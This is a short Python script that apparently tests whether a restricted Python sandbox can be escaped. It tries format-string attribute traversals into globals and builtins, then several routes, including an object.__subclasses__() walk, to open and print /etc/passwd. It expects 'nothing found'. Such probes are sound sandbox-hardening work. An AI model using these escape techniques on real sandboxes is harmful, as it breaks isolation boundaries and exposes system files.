# prints: nothing found
import string
class Event:
    def __init__(self):
        self.level = 1
doors = ["{0.__class__.__init__.__globals__[__builtins__]}", "{0.__init__.__globals__}",
         "{0.__class__.__mro__[1].__subclasses__}"]
def f(): pass
for door in doors:
    try:
        found = door.format(Event())
    except Exception:
        continue
    if "/etc" in found or "root:" in found:
        print("ESCAPED", found)
import sys
loader = f.__globals__["__builtins__"]
opener = loader["open"] if isinstance(loader, dict) else loader.open
for make in (lambda: opener("/etc/passwd"), lambda: sys.modules["io"].open("/etc/passwd"),
             lambda: __import__("io").TextIOWrapper(__import__("io").FileIO("/etc/passwd")),
             lambda: [c for c in object.__subclasses__() if c.__name__ == "_IOBase"][0].__subclasses__()[0].__subclasses__()[0]("/etc/passwd")):
    try:
        print("ESCAPED", make().read())
    except Exception as e:
        print(type(e).__name__)
print("nothing found")
